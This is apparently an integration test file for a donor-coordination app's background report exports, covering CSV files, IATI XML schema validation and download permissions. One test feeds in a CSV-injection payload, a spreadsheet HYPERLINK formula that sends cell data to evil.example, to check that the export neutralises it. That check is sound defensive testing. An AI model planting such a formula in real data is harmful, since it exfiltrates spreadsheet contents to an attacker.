import { randomBytes } from 'node:crypto';
import { readFileSync } from 'node:fs';
import { resolve } from 'node:path';
import { validateXML } from 'xmllint-wasm';
import request from 'supertest';
import { bootApp, type TestApp } from '../../../../../test/support/app.js';
import { DEMO_ACTIVITIES } from '../programme/data/activities.data.js';
import { CURRENT_ACTIVITIES } from '../programme/data/current-activities.data.js';

/** Reports run as BullMQ jobs: on PostgreSQL by default, on Redis with REDIS_URL. Both are real here. */
describe.each([
  ['PostgreSQL', {}],
  [
    'Redis',
    {
      REDIS_URL: process.env.TEST_REDIS_URL ?? 'redis://127.0.0.1:6379',
      QUEUE_PREFIX: `test-${randomBytes(4).toString('hex')}`,
    },
  ],
])('reports as background jobs, queued on %s', (_backend, env) => {
  let t: TestApp;
  beforeAll(async () => {
    t = await bootApp({ demo: true, env });
  });
  afterAll(() => t.close());

  async function finished(id: string, who: 'donor' | 'secretariat') {
    const seen: number[] = [];
    // At least 90 s, 100 ms apart: a job on a loaded 2-core machine can take long (a hang still fails).
    for (let i = 0; i < 900; i++) {
      const res = await t.as(who)(
        `query($id: ID!) { report(id: $id) { status progress rows fileName downloadUrl error } }`,
        { id },
      );
      const report = res.data!.report;
      seen.push(report.progress);
      if (report.status === 'DONE' || report.status === 'FAILED') return { report, seen };
      await new Promise((r) => setTimeout(r, 100));
    }
    throw new Error(`Report ${id} did not finish`);
  }

  it('makes the funding gaps CSV in the background, with progress, and lets only its requester download it', async () => {
    const asked = await t.as('donor')(
      `mutation { requestReport(kind: FUNDING_GAPS) { id status progress downloadUrl } }`,
    );
    expect(asked.data!.requestReport).toMatchObject({ status: 'QUEUED', progress: 0, downloadUrl: null });
    const id = asked.data!.requestReport.id;
    const { report, seen } = await finished(id, 'donor');
    expect(report).toMatchObject({ status: 'DONE', progress: 100, fileName: 'funding-gaps.csv', error: null });
    expect(report.rows).toBeGreaterThan(60);
    expect(seen.every((p, i) => i === 0 || p >= seen[i - 1])).toBe(true);

    const token = await t.login('donor@demo.local');
    const file = await request(t.app.getHttpServer()).get(report.downloadUrl).set('authorization', `Bearer ${token}`);
    expect(file.status).toBe(200);
    expect(file.headers['content-type']).toMatch(/text\/csv/);
    const lines = file.text.trim().split('\n');
    expect(lines[0]).toBe(
      'activity,title,priority_area,priority_area_title,year,cost_usd,pledged_usd,committed_usd,paid_usd,gap_usd,donor_id,donor,donor_pledged_usd,donor_committed_usd,donor_paid_usd',
    );
    expect(lines).toHaveLength(report.rows + 1);
    expect(file.text).toMatch(
      /IV\.B\.5-1,Regional workshop for central authorities in the Balkans,C,[^,]+,2009,\d+\.\d{2},0\.00,0\.00,\d+\.\d{2},0\.00,,,,,/,
    );

    // A browser sends its session cookie, not a header.
    const viaCookie = await request(t.app.getHttpServer()).get(report.downloadUrl).set('cookie', `ta_session=${token}`);
    expect(viaCookie.status).toBe(200);
    expect(viaCookie.text).toBe(file.text);
    const other = await request(t.app.getHttpServer())
      .get(report.downloadUrl)
      .set('authorization', `Bearer ${await t.login('viewer@demo.local')}`);
    expect(other.status).toBe(404);
    const nobody = await request(t.app.getHttpServer()).get(report.downloadUrl);
    expect(nobody.status).toBe(401);
    expect((await t.as('viewer')(`query($id: ID!) { report(id: $id) { id } }`, { id })).data!.report).toBeNull();
    // A report holds what its requester could see; after a change of role it is no longer theirs to take.
    await t.dataSource.query(`UPDATE report SET requested_role = 'SECRETARIAT' WHERE id = $1`, [id]);
    const changed = await request(t.app.getHttpServer())
      .get(report.downloadUrl)
      .set('authorization', `Bearer ${token}`);
    expect(changed.status).toBe(404);
  });

  it('exports the programme as IATI 2.03 activity XML that validates against the IATI schema', async () => {
    // Money an activity transferred to one of its implementing partners: a disbursement (type 3).
    const [partner] = await t.dataSource.query(
      `SELECT a.id AS "activityId", a.code, o.id AS "organisationId", o.name FROM activity a
         JOIN activity_organisation ao ON ao.activity_id = a.id AND ao.role = 'IMPLEMENTING'
         JOIN organisation o ON o.id = ao.organisation_id
        WHERE a.status <> 'CANCELLED' AND a.delivery_status <> 'CANCELLED' ORDER BY a.code, ao.position LIMIT 1`,
    );
    const disbursed = await t.gql(
      `mutation($input: RecordExpenditureInput!) { recordExpenditure(input: $input) { paidToOrganisationId } }`,
      {
        input: {
          activityId: partner.activityId,
          year: 2009,
          category: 'MEETINGS',
          amount: '4321.09',
          currency: 'USD',
          spentOn: '2009-07-01',
          paidToOrganisationId: partner.organisationId,
          beyondAllocation: true,
          beyondAllocationReason: 'The partner hosts the workshop',
          description: 'Transfer to the host',
        },
      },
    );
    expect(disbursed.errors).toBeUndefined();
    const asked = await t.gql(`mutation { requestReport(kind: IATI_ACTIVITIES) { id format } }`);
    expect(asked.data!.requestReport.format).toBe('XML');
    const { report } = await finished(asked.data!.requestReport.id, 'secretariat');
    // Every activity: the 2009–2011 proposals and the work under way in 2008 (issue 17).
    const activities = DEMO_ACTIVITIES.length + CURRENT_ACTIVITIES.length;
    expect(report).toMatchObject({ status: 'DONE', rows: activities, fileName: 'iati-activities.xml' });
    const file = await request(t.app.getHttpServer())
      .get(report.downloadUrl)
      .set('authorization', `Bearer ${await t.login('secretariat@demo.local')}`);
    const xml = file.text;
    const schemaDir = resolve(import.meta.dirname, '../../../../../standards/iati-2.03');
    const schema = (name: string) => ({ fileName: name, contents: readFileSync(resolve(schemaDir, name), 'utf8') });
    const result = await validateXML({
      xml: [{ fileName: 'iati-activities.xml', contents: xml }],
      schema: [schema('iati-activities-schema.xsd')],
      preload: [schema('iati-common.xsd'), schema('xml.xsd')],
    });
    expect(result.errors).toEqual([]);
    expect(result.valid).toBe(true);
    expect(xml.match(/<iati-activity /g)).toHaveLength(activities);
    expect(xml).toContain('<iati-identifier>XM-DAC-41127-IV.B.5-1</iati-identifier>');
    expect(xml).toMatch(/<transaction-type code="1"\/>/); // the paid US contribution
    expect(xml).toMatch(/<sector vocabulary="99" code="C">/);
    expect(xml).toContain('United States (illustrative)');
    // Donors who did not agree to be named stay unnamed in public data.
    expect(xml).not.toContain('United Kingdom (illustrative)');
    // Partner organisations come from the registry, with their IATI type (and identifier where known).
    expect(xml).toMatch(/<participating-org role="4" type="40">\s*<narrative>NATO<\/narrative>/);
    expect(xml).toMatch(/<participating-org role="4" type="40" ref="XM-DAC-41114">\s*<narrative>UNDP<\/narrative>/);
    // Issue 13: delivery, expenditure and results. The Balkans workshop is in delivery since 2009-03-02 (actual
    // start, activity-status 2) and spent money on meetings in 2009 (an outgoing expenditure, transaction type 4).
    const balkans = xml.slice(xml.indexOf('<iati-identifier>XM-DAC-41127-IV.B.5-1</iati-identifier>'));
    const balkansActivity = balkans.slice(0, balkans.indexOf('</iati-activity>'));
    expect(balkansActivity).toContain('<activity-status code="2"/>');
    expect(balkansActivity).toContain('<activity-date type="2" iso-date="2009-03-02"/>');
    expect(balkansActivity).toMatch(
      /<transaction>\s*<transaction-type code="4"\/>\s*<transaction-date iso-date="2009-06-15"\/>\s*<value currency="USD" value-date="[\d-]+">\d+\.\d{2}<\/value>\s*<description>\s*<narrative>MEETINGS/,
    );
    const escaped = (partner.name as string).replace(/[.*+?^${}()|[\]\\]/g, '\\$&');
    const partnered = xml.slice(xml.indexOf(`<iati-identifier>XM-DAC-41127-${partner.code}</iati-identifier>`));
    expect(partnered.slice(0, partnered.indexOf('</iati-activity>'))).toMatch(
      new RegExp(
        `<transaction>\\s*<transaction-type code="3"/>\\s*<transaction-date iso-date="2009-07-01"/>\\s*<value currency="USD" value-date="[\\d-]+">4321\\.09</value>[\\s\\S]*?<receiver-org[^>]*>\\s*<narrative>${escaped}</narrative>`,
      ),
    );
    // Dakar's indicator: 20 checklists completed, computed from its recorded outcome (para. 9).
    expect(xml).toMatch(/<result type="1">/);
    expect(xml).toMatch(/<indicator measure="1" ascending="1">/);
    expect(xml).toContain('<actual value="20.00"/>');

    // The partner no longer named on the activity: the money went to it all the same, still a disbursement to it.
    await t.dataSource.query(`DELETE FROM activity_organisation WHERE activity_id = $1 AND organisation_id = $2`, [
      partner.activityId,
      partner.organisationId,
    ]);
    const later = await t.gql(`mutation { requestReport(kind: IATI_ACTIVITIES) { id } }`);
    const { report: again } = await finished(later.data!.requestReport.id, 'secretariat');
    const xmlAgain = (
      await request(t.app.getHttpServer())
        .get(again.downloadUrl)
        .set('authorization', `Bearer ${await t.login('secretariat@demo.local')}`)
    ).text;
    const stillPartnered = xmlAgain.slice(
      xmlAgain.indexOf(`<iati-identifier>XM-DAC-41127-${partner.code}</iati-identifier>`),
    );
    expect(stillPartnered.slice(0, stillPartnered.indexOf('</iati-activity>'))).toMatch(
      new RegExp(`<transaction-type code="3"/>[\\s\\S]*?<receiver-org[^>]*>\\s*<narrative>${escaped}</narrative>`),
    );
  });

  it('makes the request list for the secretariat, and refuses it to donors', async () => {
    const refused = await t.as('donor')(`mutation { requestReport(kind: ASSISTANCE_REQUESTS) { id } }`);
    expect(refused.errors![0].extensions).toMatchObject({ code: 'FORBIDDEN', field: 'kind' });
    const asked = await t.gql(`mutation { requestReport(kind: ASSISTANCE_REQUESTS) { id } }`);
    const { report } = await finished(asked.data!.requestReport.id, 'secretariat');
    expect(report).toMatchObject({ status: 'DONE', rows: 87, fileName: 'assistance-requests.csv' });
    const mine = await t.gql(`{ myReports { id status } }`);
    expect(mine.data!.myReports[0]).toEqual({ id: asked.data!.requestReport.id, status: 'DONE' });
  });

  it('exports a description a spreadsheet would run as a formula as plain text (a quote before it)', async () => {
    const formula = '=HYPERLINK("http://evil.example/?"&A1,"click")';
    const logged = await t.gql(
      `mutation($input: LogAssistanceRequestInput!) { logAssistanceRequest(input: $input) { id } }`,
      {
        input: {
          stateIso3: 'KEN',
          kind: 'TRAINING',
          topics: ['cybercrime'],
          priorityAreaCode: 'B',
          receivedOn: '2009-02-01',
          channel: 'field-office',
          description: formula,
        },
      },
    );
    expect(logged.errors).toBeUndefined();
    const asked = await t.gql(`mutation { requestReport(kind: ASSISTANCE_REQUESTS) { id } }`);
    const { report } = await finished(asked.data!.requestReport.id, 'secretariat');
    expect(report.status).toBe('DONE');
    const token = await t.login('secretariat@demo.local');
    const file = await request(t.app.getHttpServer()).get(report.downloadUrl).set('authorization', `Bearer ${token}`);
    expect(file.status).toBe(200);
    expect(file.text).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""click"")"`);
    expect(file.text).not.toMatch(/(^|,)"?=HYPERLINK/m);
  });
});
